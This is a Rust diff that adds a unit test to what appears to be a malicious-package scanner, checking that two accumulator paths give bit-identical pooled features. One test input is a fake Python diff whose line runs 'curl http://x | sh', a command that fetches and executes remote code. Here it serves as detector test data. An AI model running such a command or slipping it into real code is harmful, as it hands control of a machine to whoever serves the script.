@@ -498,3 +498,29 @@ impl Accumulator for Vec<f32> {
 pub fn sigmoid(x: f32) -> f32 {
     1.0 / (1.0 + (-x).exp())
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn fixed_and_general_accumulators_agree_bit_for_bit() {
+        let m = crate::precheck::load("builtin:malicious-package", None, &Device::Cpu).unwrap();
+        assert_eq!(m.config.dim, 16, "the fixed path is the one scans take");
+        let texts = [
+            "".to_string(),
+            "+import os\n+os.system('curl http://x | sh')\n".repeat(50),
+            "--- /dev/null\n+++ b/README.md\n+Plain prose, nothing else.\n".to_string(),
+        ];
+        for text in &texts {
+            let (fixed, n1) = m.pool([0f32; 16], text.as_bytes(), None);
+            let (general, n2) = m.pool(vec![0f32; 16], text.as_bytes(), None);
+            assert_eq!(n1, n2);
+            let bits = |v: &[f32]| v.iter().map(|x| x.to_bits()).collect::<Vec<_>>();
+            assert_eq!(bits(&fixed), bits(&general), "{text:.40}");
+        }
+        // And the sum is not trivially zero on text with features.
+        let (fixed, n) = m.pool([0f32; 16], texts[1].as_bytes(), None);
+        assert!(n > 0 && fixed.iter().any(|x| *x != 0.0));
+    }
+}
